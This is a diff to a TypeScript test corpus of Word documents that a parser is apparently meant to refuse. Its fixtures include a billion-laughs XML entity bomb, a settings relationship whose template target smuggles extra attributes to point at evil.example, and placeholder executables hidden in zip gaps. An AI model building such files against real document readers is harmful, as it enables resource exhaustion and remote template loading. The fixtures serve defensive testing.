@@ -19,6 +19,9 @@ function refused(name: string, holds: string, why: string, make: () => Buffer) {
 const billion =
   '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>';
 
+/** A program for Windows, as far as it matters. */
+const program = text(`MZ${'x'.repeat(200)}`);
+
 /** Word documents, as programs make them and as attackers do. */
 export const wordDocuments = [
   corpusFile(
@@ -210,11 +213,11 @@ export const wordDocuments = [
     () =>
       makeDocx({
         settings: [
+          // The foreign attributes come last: who goes by names alone keeps these.
           [
             'rId1',
             'attachedTemplate',
-            `https://evil.example/a.dotm" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
-            'External',
+            `https://evil.example/a.dotm" TargetMode="External" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
           ],
         ],
       }),
@@ -340,9 +343,15 @@ export const wordDocuments = [
   ),
   refused(
     'hidden-file.docx',
-    'A program between the parts, which the directory does not list',
+    'A program between two parts, which the directory does not list',
     'No gaps',
-    () => makeDocx({ lies: { hidden: text(`MZ${'x'.repeat(200)}`) } }),
+    () => makeDocx({ lies: { of: 'word/document.xml', hidden: program } }),
+  ),
+  refused(
+    'hidden-at-end.docx',
+    'The same between the last part and the directory',
+    'No gaps',
+    () => makeDocx({ lies: { of: 'word/_rels/document.xml.rels', hidden: program } }),
   ),
   refused(
     'climbs-out.docx',
